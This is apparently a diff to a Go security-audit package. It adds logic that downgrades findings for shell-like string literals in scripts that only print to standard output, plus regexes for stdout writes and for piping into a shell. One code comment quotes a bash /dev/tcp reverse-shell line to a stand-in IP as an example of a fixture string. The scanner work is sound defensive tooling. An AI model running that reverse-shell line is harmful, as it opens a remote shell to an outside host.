@@ -1,6 +1,10 @@
 package audit
 
-import "strings"
+import (
+	"path"
+	"regexp"
+	"strings"
+)
 
 // A review or triage script keeps the attacks it looks for as regular
 // expressions in its own code: `PATTERNS = {"revshell":
@@ -56,6 +60,74 @@ func lowerSearched(sc *skillCtx, n int) {
 		if f.Severity > Low {
 			f.Severity = Low
 			f.Reason = Printable(f.Reason + searchedLitNote)
+		}
+	}
+}
+
+// In a skill that teaches defence (sc.defence), a detector's fixture
+// generator keeps the attacks its detector must catch as plain strings (CASES = [("bash-devtcp", True, "bash -i >&
+// /dev/tcp/203.0.113.10/4444 0>&1")]) and prints them. Read as shell,
+// such a literal is a reverse shell; but a script that, its literals
+// left out, runs no command or code, reaches no network and writes only
+// to its standard output hands its strings to nobody: its shell-like
+// literals are data, low. Unless the skill's instructions pipe the
+// script's output into a shell (python3 make.py | sh), which runs them.
+
+// stdoutWrite is a write to the standard output or error, or to a name
+// bound to one (out = sys.stdout; out.write).
+var stdoutWrite = lazyRE(`\b(?:sys\.)?(?:stdout|stderr)\.write\(|\bprocess\.(?:stdout|stderr)\.write\(`)
+
+// printedNote ends the reason of a finding in a printed literal.
+const printedNote = " (a string of a script that runs, sends and writes nothing but its standard output: data it prints)"
+
+// printOnlyScript reports whether the Python or JavaScript script rel
+// (comments blanked c, string literals at lits) runs no command or code,
+// reaches no network and writes nothing but its standard output, and the
+// skill's instructions do not pipe its output into a shell (see above).
+func printOnlyScript(sc *skillCtx, rel, c string, lits [][]int, write *lazyRegexp, k fileKind) bool {
+	b := []byte(c)
+	for _, m := range lits {
+		for i := m[0] + 1; i < m[1]-1; i++ {
+			if b[i] != '\n' {
+				b[i] = ' '
+			}
+		}
+	}
+	code := string(b)
+	for _, m := range stdoutAlias.FindAllStringSubmatch(code, 8) {
+		code = strings.ReplaceAll(code, m[1]+".write(", "print(")
+	}
+	code = stdoutWrite.ReplaceAllString(code, "print(")
+	code = stdoutFileArg.ReplaceAllString(code, "")
+	net := pyNet
+	if k == kindJS {
+		net = jsNet
+	}
+	if patternExecRe.MatchString(code) || searchRunRe.MatchString(code) || write.MatchString(code) || net.MatchString(code) ||
+		strings.Contains(code, "socket") || strings.Contains(code, "open(") {
+		return false
+	}
+	base := regexp.QuoteMeta(path.Base(rel))
+	piped := regexp.MustCompile(base + `[^\n|]*\|\s*(?:sudo\s+)?(?:ba|z|da)?sh\b`)
+	return !piped.MatchString(sc.topic) && !piped.MatchString(sc.instructions)
+}
+
+// stdoutFileArg is print's file argument naming the standard output or
+// error.
+var stdoutFileArg = lazyRE(`,\s*file\s*=\s*sys\.(?:stdout|stderr)\b`)
+
+// stdoutAlias binds a name to the standard output or error: group 1 the
+// name.
+var stdoutAlias = lazyRE(`(?m)^\s*(\w+)\s*=\s*sys\.(?:stdout|stderr)\s*$`)
+
+// lowerPrinted lowers the findings sc.findings[n:] of one printed
+// literal to low.
+func lowerPrinted(sc *skillCtx, n int) {
+	for i := n; i < len(sc.findings); i++ {
+		f := &sc.findings[i]
+		if f.Severity > Low {
+			f.Severity = Low
+			f.Reason = Printable(f.Reason + printedNote)
 		}
 	}
 }
